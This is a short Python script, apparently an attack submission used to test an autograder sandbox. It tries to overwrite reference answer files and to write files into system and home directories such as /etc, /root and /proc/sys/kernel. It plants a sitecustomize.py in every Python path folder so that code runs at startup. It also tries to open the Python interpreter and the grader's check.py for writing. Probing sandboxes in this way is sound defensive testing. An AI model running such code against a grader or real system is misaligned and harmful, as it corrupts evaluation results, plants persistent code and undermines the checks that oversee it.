"""Answers of its own are written over the references, and files into every folder there is."""

# %% nn_forward_pass
import os
from pathlib import Path

for folder in ("@course@", "@package@", "@package@/references", "@package@/public", "/course", "/usr/lib",
               "/etc", "/var/tmp", "/run", "/dev", "/", "/proc/sys/kernel", "..", "../..", "/home", "/root"):
    for path in (Path(folder, "gc-attack"), Path(folder, "a1_two_layer_net.safetensors")):
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(b"")
            print("wrote", path)
        except OSError as error:
            print(error)
import sys

for folder in sys.path:
    try:
        Path(folder, "sitecustomize.py").write_text("print('gc-attack')")
        print("wrote", folder)
    except OSError as error:
        print(error)
for path in (sys.executable, os.__file__, "/proc/self/exe", "/course/autograder/check.py"):
    try:
        open(path, "r+b").close()
        print("opened", path)
    except OSError as error:
        print(error)
